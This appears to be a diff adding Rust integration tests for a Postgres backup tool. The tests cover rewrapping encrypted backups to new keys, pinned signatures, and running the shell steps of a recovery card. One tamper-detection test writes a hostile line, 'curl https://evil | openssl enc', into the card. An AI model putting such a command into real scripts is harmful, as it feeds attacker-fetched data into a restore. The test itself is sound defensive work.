@@ -1,0 +1,212 @@
+//! New recipients, signatures, and the card that tells how to do without this program.
+
+use super::{Home, comparable, openssl, text};
+use crate::support::pgseal::Pgseal;
+use crate::support::restore::dump;
+use serde_json::json;
+use std::path::PathBuf;
+use std::process::Command;
+
+/// A new key pair in the home's folder: private and public file.
+fn pair(home: &Home, name: &str) -> (PathBuf, PathBuf) {
+    let private = home.folder.path().join(format!("{name}.key"));
+    let public = home.folder.path().join(format!("{name}.pem"));
+    openssl(&["genrsa", "-out", text(&private), "2048"]);
+    openssl(&["pkey", "-in", text(&private), "-pubout", "-out", text(&public)]);
+    (private, public)
+}
+
+fn signer(home: &Home, name: &str) -> (PathBuf, PathBuf) {
+    let private = home.folder.path().join(format!("{name}.key"));
+    let public = home.folder.path().join(format!("{name}.pem"));
+    openssl(&[
+        "genpkey",
+        "-algorithm",
+        "EC",
+        "-pkeyopt",
+        "ec_paramgen_curve:P-256",
+        "-out",
+        text(&private),
+    ]);
+    openssl(&["pkey", "-in", text(&private), "-pubout", "-out", text(&public)]);
+    (private, public)
+}
+
+#[test]
+fn a_new_recipient_opens_what_the_old_one_rewrapped() {
+    let home = Home::new(json!({}));
+    let (new_key, new) = pair(&home, "new");
+    let (fetched, old_key) = (home.fetched(), home.key());
+    let before = std::fs::read(fetched.join(home.name_of("dump"))).expect("the dump");
+    let said = Home::offline(&["rewrap", text(&fetched), "--key", &old_key, "--recipient", text(&new)]);
+    assert_eq!(
+        (said.code, &said.receipt()["generation"]),
+        (0, &json!(2)),
+        "{}{}",
+        said.stdout,
+        said.stderr
+    );
+    assert!(std::fs::read(fetched.join(home.name_of("dump"))).expect("the dump") == before);
+
+    let expected = String::from_utf8(dump(&home.server, "app")).expect("UTF-8");
+    for key in [text(&new_key), &old_key] {
+        // The old manifest stays valid until it is removed, so the old key still opens the backup by it.
+        let said = Home::offline(&["decrypt", text(&fetched), "--key", key]);
+        assert!(said.code == 0 && comparable(&said.stdout) == expected, "{}", said.stderr);
+        assert_eq!(Home::offline(&["verify", text(&fetched), "--key", key]).code, 0);
+    }
+    let listing = Home::offline(&["list", text(&fetched)]).receipt();
+    assert_eq!(
+        (&listing["backups"][0]["generation"], &listing["leftovers"]),
+        (&json!(2), &json!([])),
+        "{listing}"
+    );
+
+    // Retired: then only the new key opens it.
+    std::fs::remove_file(fetched.join(home.name_of("manifest"))).expect("removed");
+    assert_eq!(Home::offline(&["verify", text(&fetched), "--key", text(&new_key)]).code, 0);
+    assert_eq!(Home::offline(&["verify", text(&fetched), "--key", &old_key]).code, 7);
+}
+
+#[test]
+fn in_s3_nothing_is_overwritten_and_recipients_can_stay() {
+    let home = Home::new(json!({}));
+    let (new_key, new) = pair(&home, "new");
+    let before: Vec<_> = home.bucket.keys().into_iter().map(|key| (home.bucket.get(&key), key)).collect();
+    for generation in [2, 3] {
+        let said = home.run(&["rewrap", &home.at_s3(), "--key", &home.key(), "--recipient", text(&new), "--keep"]);
+        assert_eq!(
+            (said.code, &said.receipt()["generation"]),
+            (0, &json!(generation)),
+            "{}",
+            said.stderr
+        );
+        assert_eq!(said.receipt()["recipients"].as_array().map(Vec::len), Some(2));
+    }
+    assert!(before.iter().all(|(content, key)| home.bucket.get(key) == *content));
+    for key in [text(&new_key), &home.key()] {
+        let said = home.run(&["verify", &home.at_s3(), "--key", key]);
+        assert_eq!(said.code, 0, "{}", said.stdout);
+    }
+}
+
+/// The same order with a signer in the environment.
+fn signed(home: &Home, private: &str, stem_time: &str) -> String {
+    let mut order = crate::support::invariants::event(&home.server, "app", &home.bucket);
+    let public = openssl(&["pkey", "-pubout", "-in", &home.key()]);
+    order["public_key"] = json!(String::from_utf8(public).expect("PEM"));
+    order["scheduled_time"] = json!(stem_time);
+    let run = Pgseal::backup(&order).envs(home.bucket.env()).envs(home.server.env());
+    let receipt = run.env("PGSEAL_SIGNING_KEY", private).run().complete();
+    format!(
+        "s3://{}/{}",
+        home.bucket.name,
+        receipt["backups"][0]["stem"].as_str().expect("a stem")
+    )
+}
+
+#[test]
+fn a_pinned_signer_is_demanded() {
+    let home = Home::new(json!({}));
+    let ((ours, pinned), (_, others)) = (signer(&home, "ours"), signer(&home, "others"));
+    let backup = signed(&home, text(&ours), "2026-11-24T02:00:00Z");
+    let verify = |backup: &str, signer: &str| home.run(&["verify", backup, "--key", &home.key(), "--signer", signer]);
+    let good = verify(&backup, text(&pinned));
+    assert_eq!(good.code, 0, "{}", good.stdout);
+    for (backup, signer) in [(backup.as_str(), &others), (&home.at_s3(), &pinned)] {
+        let bad = verify(backup, text(signer));
+        assert_eq!(
+            (bad.code, &bad.receipt()["error"]["code"]),
+            (7, &json!("tampered")),
+            "{}",
+            bad.stdout
+        );
+    }
+    // A signed backup stays signed.
+    let (_, new) = pair(&home, "new");
+    let arguments = ["rewrap", &backup, "--key", &home.key(), "--recipient", text(&new)];
+    assert_eq!(home.run(&arguments).code, 2);
+    let run = Pgseal::new(&arguments)
+        .envs(home.bucket.env())
+        .env("PGSEAL_SIGNING_KEY", text(&ours));
+    assert_eq!(run.run().code, 0);
+    assert_eq!(verify(&backup, text(&pinned)).code, 0);
+}
+
+/// Runs every block of a card, in order, in a folder with the objects and the private key.
+fn follow(home: &Home, folder: &std::path::Path, card: &str) {
+    let card = std::fs::read_to_string(folder.join(card)).expect("the card");
+    std::fs::copy(home.key(), folder.join("private_key.pem")).expect("the key");
+    let mut script = String::new();
+    let mut inside = false;
+    for line in card.lines() {
+        match line {
+            "```sh" => inside = true,
+            "```" => inside = false,
+            line if inside => script.push_str(&format!("{line}\n")),
+            _ => {}
+        }
+    }
+    let psql = home.server.psql_command("postgres");
+    let output = Command::new("bash")
+        .args(["-euo", "pipefail", "-c", &script])
+        .current_dir(folder)
+        .envs(psql.get_envs().filter_map(|(name, value)| Some((name, value?))))
+        .env("PATH", format!("{}:/usr/local/bin:/usr/bin:/bin", home.server.bin().display()))
+        .output()
+        .expect("bash starts");
+    let (said, complained) = (String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
+    assert!(output.status.success(), "{said}\n{complained}\n{script}");
+    let names = std::fs::read_dir(folder).expect("the folder").flatten();
+    let objects = names
+        .filter_map(|entry| entry.file_name().into_string().ok())
+        .filter(|name| name.ends_with(".enc"))
+        .count();
+    assert_eq!(said.lines().filter(|line| line.ends_with(": OK")).count(), objects + 1, "{said}");
+}
+
+#[test]
+fn the_recovery_card_restores_by_stock_tools_alone() {
+    for asked in [
+        json!({"globals": true}),
+        json!({"compression": "zstd"}),
+        json!({"compression": "none"}),
+        json!({"format": "legacy"}),
+    ] {
+        let home = Home::new(asked);
+        follow(&home, &home.fetched(), &home.name_of("card"));
+        crate::support::restore::assert_same(&home.server, "app", "restored");
+    }
+}
+
+#[test]
+fn a_signed_backups_card_checks_the_signature() {
+    let home = Home::new(json!({}));
+    let (ours, pinned) = signer(&home, "ours");
+    let backup = signed(&home, text(&ours), "2026-11-24T02:00:00Z");
+    let stem = backup.rsplit('/').next().expect("a stem");
+    let folder = home.folder.path().join("signed");
+    std::fs::create_dir(&folder).expect("a folder");
+    for key in home.bucket.keys().iter().filter(|key| key.contains(stem)) {
+        std::fs::write(folder.join(key.rsplit('/').next().expect("a name")), home.bucket.get(key)).expect("written");
+    }
+    std::fs::copy(&pinned, folder.join("signer.pem")).expect("copied");
+    follow(&home, &folder, &format!("{stem}.RECOVER.md"));
+}
+
+#[test]
+fn a_changed_card_is_found() {
+    let home = Home::new(json!({}));
+    let card = home.fetched().join(home.name_of("card"));
+    let words = std::fs::read_to_string(&card).expect("the card");
+    std::fs::write(&card, words.replace("openssl enc", "curl https://evil | openssl enc")).expect("written");
+    for key in [&[][..], &["--key", &home.key()]] {
+        let said = Home::offline(&[&["verify", text(&home.fetched())], key].concat());
+        assert_eq!(
+            (said.code, &said.receipt()["error"]["code"]),
+            (7, &json!("tampered")),
+            "{}",
+            said.stdout
+        );
+    }
+}
